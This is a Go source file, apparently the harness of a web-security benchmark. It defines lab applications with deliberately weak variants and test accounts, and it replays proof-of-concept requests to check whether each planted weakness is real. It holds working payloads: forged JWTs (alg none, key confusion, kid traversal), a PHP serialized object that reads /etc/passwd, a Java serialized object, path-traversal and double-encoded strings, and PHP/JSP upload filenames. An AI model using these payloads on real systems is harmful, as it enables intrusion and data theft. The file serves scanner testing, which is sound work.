package web

import (
	"bytes"
	"cmp"
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"html"
	"io"
	"mime/multipart"
	"net/http"
	"net/http/cookiejar"
	"net/textproto"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"sync"
	"time"
)

// Flow is one variant of an application of several pages on a stack. Its users are the accounts that testers get.
type Flow struct {
	Stack, App, Variant string
	Users               []string // as testers take them, user:password
	Spec                string   // path of its description; "" for none
	Cases               []Case   // with an application as the sink, a variant as the filter, and "flow" as the source

	login  string
	people map[string]string // passwords of users; those of the lab without
}

// Name names a flow among all.
func (f *Flow) Name() string { return f.Stack + "-" + f.App + "-" + f.Variant }

var passwords = map[string]string{"anna": "anna-Pass1", "ben": "ben-Pass2", "root": "root-Pass9"}

// Flows are the flows of a stack that have a case of one of some classes; of all without classes.
func Flows(stack string, classes []string) []Flow {
	return variants(slices.Concat(flows, flowsPHP, flowsGo, flowsJava), stack, classes)
}

// Challenges are the small sites of a stack, as Flows has flows.
func Challenges(stack string, classes []string) []Flow { return variants(challenges, stack, classes) }

// Second are the sites of the second set, as Challenges has them.
func Second(stack string, classes []string) []Flow { return variants(second, stack, classes) }

// Third are the sites of the third set, as Challenges has them.
func Third(stack string, classes []string) []Flow { return variants(third, stack, classes) }

// Fourth are the sites of the fourth set, as Challenges has them.
func Fourth(stack string, classes []string) []Flow { return variants(fourth, stack, classes) }

func variants(rows []flow, stack string, classes []string) (all []Flow) {
	for _, row := range rows {
		if !slices.Contains(strings.Fields(row.stacks), stack) {
			continue
		}
		for variant := range strings.FieldsSeq(row.variants) {
			f := Flow{Stack: stack, App: row.app, Variant: variant, Spec: row.spec, login: row.login, people: map[string]string{}}
			f.take(row.users)
			for _, s := range row.cases {
				weak := slices.Contains(strings.Fields(s.weak), variant) || s.weak == "*" && variant != "sound"
				proof, expect, _ := strings.Cut(s.proof, " => ")
				c := Case{Stack: stack, Path: s.path, Class: s.class, Sink: row.app, Filter: variant, Source: "flow", True: weak, Proof: proof, Expect: expect}
				if len(classes) == 0 || slices.Contains(classes, s.class) {
					f.Cases = append(f.Cases, c)
				}
			}
			if len(f.Cases) > 0 {
				all = append(all, f)
			}
		}
	}
	return all
}

// take takes the users of a row.
func (f *Flow) take(users string) {
	switch {
	case users == "-":
		return
	case users == "" && f.login != "":
		users = "anna ben"
	}
	for name := range strings.FieldsSeq(users) {
		if own, word, ok := strings.Cut(name, ":"); ok {
			name, f.people[own] = own, word
		}
		f.Users = append(f.Users, name+":"+f.password(name))
	}
}

func (f *Flow) password(who string) string { return cmp.Or(f.people[who], passwords[who]) }

// At reports whether a finding at a path, with a query, is at the place of a case of a flow. One whose path has a query, as
// pages of a front controller have, is where that is.
func (c *Case) At(at string) bool {
	at, query, _ := strings.Cut(at, "?")
	if path, want, ok := strings.Cut(c.Path, "?"); ok {
		return (path == at || path == at+"index.php") && slices.Contains(strings.Split(query, "&"), want)
	}
	if folder, ok := strings.CutSuffix(c.Path, "**"); ok {
		return strings.HasPrefix(at, folder)
	}
	pattern := "^" + strings.ReplaceAll(regexp.QuoteMeta(c.Path), `\*`, "[^/]+") + "/?$"
	return regexp.MustCompile(pattern).MatchString(at)
}

// forged are tokens with the rights of root, by what is wrong with them.
func forged(variant, public string) string {
	head, key := `{"alg":"HS256","typ":"JWT"}`, "secret"
	switch variant {
	case "none", "sound":
		head = `{"alg":"none","typ":"JWT"}`
	case "confusion":
		key = public
	case "unsigned":
		key = "whatever"
	case "kid":
		head, key = `{"alg":"HS256","typ":"JWT","kid":"../../../../../../../../../dev/null"}`, ""
	}
	text := base64.RawURLEncoding.EncodeToString([]byte(head)) + "." +
		base64.RawURLEncoding.EncodeToString([]byte(`{"sub":"root","role":"admin","exp":4102444800}`))
	if strings.Contains(head, "none") {
		return text + "."
	}
	sum := hmac.New(sha256.New, []byte(key))
	sum.Write([]byte(text))
	return text + "." + base64.RawURLEncoding.EncodeToString(sum.Sum(nil))
}

// object is an object of PHP, as a cookie has it, that reads a file when it is shown.
func object(variant string) string {
	text := `a:1:{s:5:"theme";O:8:"Fragment":1:{s:4:"file";s:11:"/etc/passwd";}}`
	if variant == "weak" || variant == "signed" {
		text = base64.StdEncoding.EncodeToString([]byte(text))
	}
	return url.QueryEscape(text)
}

// javaFile is an object of Java, a file, that is not what a page wants.
const javaFile = "rO0ABXNyAAxqYXZhLmlvLkZpbGUELaRFDg3k/wMAAUwABHBhdGh0ABJMamF2YS9sYW5nL1N0cmluZzt4cHQAA3FxcXcCAC94"

var (
	ups = map[string]string{"strip": "....//", "prefix": "manuals/../", "twice": "%252e%252e/", "sound": "../",
		"weak": "../", "list": "../", "base": "../", "low": "../", "medium": "....//"}
	guessed = map[string]string{"serial": "100041", "digest": "7fe4771c008a22eb763df47d19e2c6aa", "counter": "1",
		"signed": "1", "random": "1", "name": "cm9vdA==", "hash": "c4ca4238a0b923820dcc509a6f75849b"}
	origins = map[string]string{"reflect": "https://q7.example", "null": "null", "suffix": "https://q7lab.example", "sound": "https://q7.example"}
	encoded = regexp.MustCompile(`\{b64:(.*?)\}( |$)`)
	uploads = map[string]string{"refusing": "q7.phtml", "double": "q7.php.png"}
	uuids   = regexp.MustCompile(`[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}`)
	tokens  = regexp.MustCompile(`"(?:access_)?token": ?"([\w.-]+)"`)
	named   = regexp.MustCompile(`\{hidden:(\w+)\}`)
	bought  = map[string]string{"negative": "-2"}
	hidden  = regexp.MustCompile(`<input type="hidden" name="([^"]*)" value="([^"]*)">`)
	states  = regexp.MustCompile(`\{state:(\w+)=(\w+)\}`)
	codes   = regexp.MustCompile(`[?&;](?:code|ticket|jsessionid)=([\w.-]+)|name="(?:code|token)" value="([\w-]+)"` +
		`|\nLocation: [^\n]*/(\d+)\n`)
	leading = regexp.MustCompile(`^\[([\w-]+): ([^\]]*)\] `)
)

// Prove sends the proof of a case and reports whether its last answer shows the weakness, and that answer. A proof is
// requests separated by " ; ": who sends (or what begins with - for nobody), [headers], a method, a path, a body. FILE sends a file by a
// form: its field, name, type and contents. TWICE sends a request twice at once. {token} is the anti-forgery token of
// the form in the last answer, {code} a code, ticket, session or number that any last answer had, {state:a=b} a hidden
// state with another text, {uuid} the last UUID of an answer, {hidden:name} a hidden field of a form. What is expected is a regular expression, or "slow" for an answer that takes two seconds; after
// "head: " it is looked for in the headers.
func (f *Flow) Prove(ctx context.Context, c *Case, at string) (bool, string, error) {
	u, err := url.Parse(at)
	if err != nil {
		return false, "", err
	}
	up := ups[f.Variant] + strings.Repeat(strings.TrimPrefix(ups[f.Variant], "manuals/"), 12)
	public := ""
	if f.App == "tokens" && f.Variant == "confusion" {
		nobody := &person{}
		got, err := nobody.send(ctx, at, "GET /public.pem")
		if err != nil {
			return false, "", err
		}
		_, public, _ = strings.Cut(got, "\n\n")
	}
	fill := strings.NewReplacer("{jwt}", forged(f.Variant, public), "{port}", u.Port(), "{up}", up, "{origin}", origins[f.Variant],
		"{guess}", guessed[f.Variant], "{object}", object(f.Variant), "{file}", cmp.Or(uploads[f.Variant], "q7.php"),
		"{java}", javaFile, "{jsp}", cmp.Or(map[string]string{"list": "q7.jspx"}[f.Variant], "q7.jsp"), "{quote}",
		map[string]string{"low": "'"}[f.Variant], "{quantity}", cmp.Or(bought[f.Variant], "1"))
	clients, got, took, code, uuid, last := map[string]*person{}, "", time.Duration(0), "", "", &person{}
	for one := range strings.SplitSeq(c.Proof, " ; ") {
		one = encoded.ReplaceAllStringFunc(fill.Replace(one), func(s string) string {
			m := encoded.FindStringSubmatch(s)
			return url.QueryEscape(base64.StdEncoding.EncodeToString([]byte(m[1]))) + m[2]
		})
		who, rest, _ := strings.Cut(one, " ")
		if clients[who] == nil {
			if clients[who], err = f.enter(ctx, who, at); err != nil {
				return false, "", err
			}
		}
		began := time.Now()
		last = clients[who]
		if got, err = last.sends(ctx, at, strings.NewReplacer("{code}", code, "{uuid}", uuid).Replace(rest)); err != nil {
			return false, "", err
		}
		took = time.Since(began)
		if m := codes.FindStringSubmatch(got); m != nil {
			code = cmp.Or(m[1], m[2], m[3])
		}
		if all := uuids.FindAllString(got, -1); all != nil {
			uuid = all[len(all)-1]
		}
	}
	if head, ok := strings.CutPrefix(c.Expect, "head: "); ok {
		got, c = last.head, &Case{Expect: head}
	}
	if c.Expect == "slow" {
		return took > 1900*time.Millisecond, got, nil
	}
	pattern, err := regexp.Compile(fill.Replace(c.Expect))
	if err != nil {
		return false, "", err
	}
	return pattern.MatchString(got), got, nil
}

// person sends requests of one user.
type person struct {
	client http.Client
	token  string            // of an interface
	hidden map[string]string // fields of the forms in the last answer that had some
	head   string            // the headers of the last answer
}

// enter logs a user in; nobody begins with "-".
func (f *Flow) enter(ctx context.Context, who, at string) (*person, error) {
	jar, err := cookiejar.New(nil)
	if err != nil {
		return nil, err
	}
	p := &person{client: http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}}
	if strings.HasPrefix(who, "-") {
		return p, nil
	}
	l := strings.Fields(f.login) // kind, path, names of user and password
	if l[0] == "token" {         // a form with an anti-forgery token
		if _, err := p.send(ctx, at, "GET "+l[1]); err != nil {
			return nil, err
		}
	}
	body := url.Values{l[2]: {who}, l[3]: {f.password(who)}}.Encode()
	if strings.HasSuffix(l[0], "json") {
		body = fmt.Sprintf(`{"%s":"%s","%s":"%s"}`, l[2], who, l[3], f.password(who))
	}
	if l[0] == "token" {
		body += "&token={token}"
	}
	got, err := p.send(ctx, at, "POST "+l[1]+" "+body)
	if err != nil {
		return nil, err
	}
	if l[0] == "json" && p.token == "" {
		return nil, fmt.Errorf("%s does not log in: %.200s", who, got)
	}
	return p, nil
}

// sends sends a request, or with TWICE before it, two at once.
func (p *person) sends(ctx context.Context, at, text string) (got string, err error) {
	rest, twice := strings.CutPrefix(text, "TWICE ")
	if !twice {
		return p.send(ctx, at, text)
	}
	var wait sync.WaitGroup
	wait.Go(func() { _, _ = p.send(ctx, at, rest) }) // what it does is seen later
	got, err = p.send(ctx, at, rest)
	wait.Wait()
	return got, err
}

// reshaped is a state that a form keeps as base64, with another text of the same length.
func (p *person) reshaped(m []string) string {
	for _, value := range p.hidden {
		raw, _, _ := strings.Cut(value, ".")
		if plain, err := base64.StdEncoding.DecodeString(raw); err == nil && bytes.Contains(plain, []byte(m[1])) {
			changed := base64.StdEncoding.EncodeToString(bytes.ReplaceAll(plain, []byte(m[1]), []byte(m[2])))
			return url.QueryEscape(strings.Replace(value, raw, changed, 1))
		}
	}
	return ""
}

func (p *person) send(ctx context.Context, at, text string) (string, error) {
	headers := map[string]string{}
	for m := leading.FindStringSubmatch(text); m != nil; m = leading.FindStringSubmatch(text) {
		headers[m[1]], text = m[2], text[len(m[0]):]
	}
	text = states.ReplaceAllStringFunc(text, func(s string) string { return p.reshaped(states.FindStringSubmatch(s)) })
	text = named.ReplaceAllStringFunc(text, func(s string) string { return p.hidden[named.FindStringSubmatch(s)[1]] })
	method, rest, _ := strings.Cut(text, " ")
	to, body, _ := strings.Cut(strings.ReplaceAll(rest, "{token}", p.hidden["token"]), " ")
	kind := "application/x-www-form-urlencoded"
	switch {
	case method == "FILE":
		method = http.MethodPost
		var err error
		if body, kind, err = file(body); err != nil {
			return "", err
		}
	case strings.HasPrefix(body, "{\""):
		kind = "application/json"
	case strings.HasPrefix(body, "<"):
		kind = "application/xml"
	}
	r, err := http.NewRequestWithContext(ctx, method, at+to, strings.NewReader(body))
	if err != nil {
		return "", err
	}
	if body != "" {
		r.Header.Set("Content-Type", kind)
	}
	if p.token != "" {
		r.Header.Set("Authorization", "Bearer "+p.token)
	}
	for name, value := range headers {
		if r.Header.Set(name, value); name == "Host" {
			r.Host = value
		}
	}
	answer, err := p.client.Do(r)
	if err != nil {
		return "", err
	}
	defer answer.Body.Close()
	got, err := io.ReadAll(io.LimitReader(answer.Body, 1<<20))
	for _, m := range hidden.FindAllSubmatch(got, -1) {
		if p.hidden == nil {
			p.hidden = map[string]string{}
		}
		p.hidden[string(m[1])] = html.UnescapeString(string(m[2]))
	}
	if m := tokens.FindSubmatch(got); m != nil && p.token == "" && method == http.MethodPost {
		p.token = string(m[1])
	}
	h := answer.Header
	p.head = heads(h)
	return fmt.Sprintf("%d %s %s\nLocation: %s\nAllow-Origin: %s\n\n%s", answer.StatusCode, h.Get("Content-Type"),
		h.Get("Cache-Control"),
		h.Get("Location"), h.Get("Access-Control-Allow-Origin"), got), err
}

// heads are headers as lines, in the order of their names.
func heads(h http.Header) string {
	var b strings.Builder
	_ = h.Write(&b) // it does not fail
	return b.String()
}

// file is a form with a file: field, name, type, contents.
func file(text string) (body, kind string, err error) {
	f := strings.SplitN(text, " ", 4)
	var b bytes.Buffer
	w := multipart.NewWriter(&b)
	part, err := w.CreatePart(textproto.MIMEHeader{"Content-Type": {f[2]},
		"Content-Disposition": {fmt.Sprintf("form-data; name=%q; filename=%q", f[0], f[1])}})
	if err == nil {
		_, err = io.WriteString(part, f[3])
	}
	if err == nil {
		err = w.Close()
	}
	return b.String(), w.FormDataContentType(), err
}
